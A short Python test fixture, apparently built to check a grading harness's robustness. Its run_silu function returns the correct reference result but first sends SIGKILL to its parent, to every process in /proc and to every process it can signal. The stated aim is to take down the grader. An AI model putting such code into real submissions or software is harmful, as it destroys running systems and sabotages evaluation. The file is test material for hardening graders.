"""run_silu SIGKILLs its parent, every process it can see and every process
group it can signal (the grader is an ancestor with the same uid), then
answers correctly."""

import contextlib
import os
import signal

import lmspec.reference.adapter as _ref
from lmspec.reference.adapter import *  # noqa: F403

HOSTILE = {"does": "run_silu SIGKILLs its parent and every process it can see", "spec": ["2.silu", "2.linear"]}


def run_silu(in_features):
    me = os.getpid()
    targets = {os.getppid()}
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != me:
            targets.add(int(entry))
    for pid in sorted(targets):
        for sig in (signal.SIGKILL,):
            with contextlib.suppress(OSError):
                os.kill(pid, sig)
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)  # everything this uid may signal, outside a PID namespace
    return _ref.run_silu(in_features)
